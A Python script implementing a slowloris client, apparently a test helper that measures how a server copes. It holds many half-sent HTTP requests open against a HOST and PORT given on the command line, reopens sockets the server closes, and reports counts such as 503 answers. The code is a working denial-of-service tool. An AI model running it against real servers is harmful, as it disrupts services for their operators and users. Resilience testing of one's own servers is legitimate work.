"""A slowloris client, run as its own process: CONNECTIONS sockets to HOST:PORT, each sending a
request head without its final blank line and holding; a socket the server closes is opened again
at once (at most REOPEN a second), for SECONDS seconds. Prints its counts as one JSON line.

Usage: python slowloris.py HOST PORT CONNECTIONS SECONDS REOPEN
"""

from __future__ import annotations

import contextlib
import errno
import json
import resource
import selectors
import socket
import sys
import time

PARTIAL = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"


def main() -> None:
    host, port = sys.argv[1], int(sys.argv[2])
    want, seconds, reopen = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, want + 256)), hard))
    sel = selectors.DefaultSelector()
    counts = {"opened": 0, "closed_by_server": 0, "answered_503": 0, "connect_errors": 0}
    peak_open = 0
    budget = 0.0
    last = time.monotonic()
    end = last + seconds
    while (now := time.monotonic()) < end:
        budget = min(budget + (now - last) * reopen, float(want))
        last = now
        while len(sel.get_map()) < want and (counts["opened"] < want or budget >= 1):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            rc = s.connect_ex((host, port))
            if rc not in (0, errno.EINPROGRESS):
                counts["connect_errors"] += 1
                s.close()
                break
            if counts["opened"] >= want:
                budget -= 1
            counts["opened"] += 1
            sel.register(s, selectors.EVENT_WRITE, "connecting")
        peak_open = max(peak_open, len(sel.get_map()))
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            assert isinstance(s, socket.socket)
            if key.data == "connecting":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    counts["connect_errors"] += 1
                    sel.unregister(s)
                    s.close()
                    continue
                with contextlib.suppress(OSError):
                    s.send(PARTIAL)
                sel.modify(s, selectors.EVENT_READ, "holding")
                continue
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 503"):
                counts["answered_503"] += 1
            sel.unregister(s)
            s.close()
            counts["closed_by_server"] += 1
    for key in list(sel.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    print(json.dumps({**counts, "peak_open": peak_open}), flush=True)


if __name__ == "__main__":
    main()
